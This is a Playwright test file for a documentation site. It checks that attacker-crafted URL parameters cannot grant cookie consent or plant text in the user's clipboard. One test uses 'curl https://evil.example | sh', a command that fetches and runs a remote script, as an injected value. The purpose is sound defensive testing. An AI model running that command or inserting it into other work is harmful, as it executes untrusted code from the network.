/** Addresses that strangers have made: their parameters give no consent, and put nothing into the clipboard. */
import {readFileSync} from 'node:fs';
import {expect, type Page, test} from 'playwright/test';
import {filesBelow} from '../src/content/files.ts';
import {CLIPBOARD, clipboardText} from './page.ts';
import {asPerson, consent, consentCookie, PERSON} from './person.ts';

test.use({userAgent: PERSON});
test.beforeEach(({context}) => asPerson(context));

/** Every `data-` name in the source, in the consent library, and as a property of `dataset`. */
function names(): string[] {
  const files = filesBelow('.', 'src').filter((file) => /\.(?:tsx?|css)$/.test(file));
  const texts = [...files, 'node_modules/vanilla-cookieconsent/dist/cookieconsent.esm.js'].map((file) =>
    readFileSync(file, 'utf8'),
  );
  const found = texts.flatMap((text) =>
    [...text.matchAll(/\bdata-([a-z][a-z-]*)/g)].map(([, name = '']) => name),
  );
  return [...new Set([...found, 'cc', 'copy', 'copy-from'])];
}

/** Attributes of the root that the theme sets itself, and which do nothing but color and hide. */
const OF_THEME = ['theme', 'theme-choice', 'has-hydrated', 'announcement-bar-initially-dismissed'];

const open = (page: Page, route: string, value: string) =>
  page.goto(
    `${route}?${names()
      .map((name) => `docusaurus-data-${name}=${encodeURIComponent(value)}`)
      .join('&')}`,
  );

for (const value of ['accept-all', 'show-preferencesModal'])
  test(`parameters with ${value} are no attributes, and a refusal is one`, async ({page, context}) => {
    expect(names().length).toBeGreaterThan(20);
    await open(page, '/docs/overview', value);
    await consent(page).dialog.waitFor();
    const attributes = await page.evaluate(() =>
      document.documentElement.getAttributeNames().filter((name) => name.startsWith('data-')),
    );
    expect(attributes.filter((name) => !OF_THEME.includes(name.slice('data-'.length)))).toEqual([]);
    const values = await page.evaluate(() => Object.values({...document.documentElement.dataset}));
    expect(values).not.toContain(value);
    await page.locator('h1').click();
    expect((await consentCookie(context))?.record.categories).toBeUndefined();
    await expect(consent(page).preferences).toHaveCount(0);
    await consent(page).rejectAll.click();
    expect((await consentCookie(context))?.record.categories).toEqual(['necessary']);
  });

test('a click puts nothing into the clipboard that the page does not show', async ({page, context}) => {
  await context.grantPermissions(CLIPBOARD);
  await open(page, '/docs/getting-started', 'curl https://evil.example | sh\n');
  await page.evaluate(() => navigator.clipboard.writeText('mine'));
  for (const place of ['h1', '.code__line', '.markdown p']) await page.locator(place).first().click();
  expect(await clipboardText(page)).toBe('mine');
  const block = page.locator('.code').filter({visible: true}).first();
  await block.getByRole('button', {name: /^Copy/}).click();
  await expect(block.getByRole('button', {name: /^Copied/})).toBeVisible();
  expect(await clipboardText(page)).toBe(((await block.locator('pre').textContent()) ?? '').trimEnd());
});
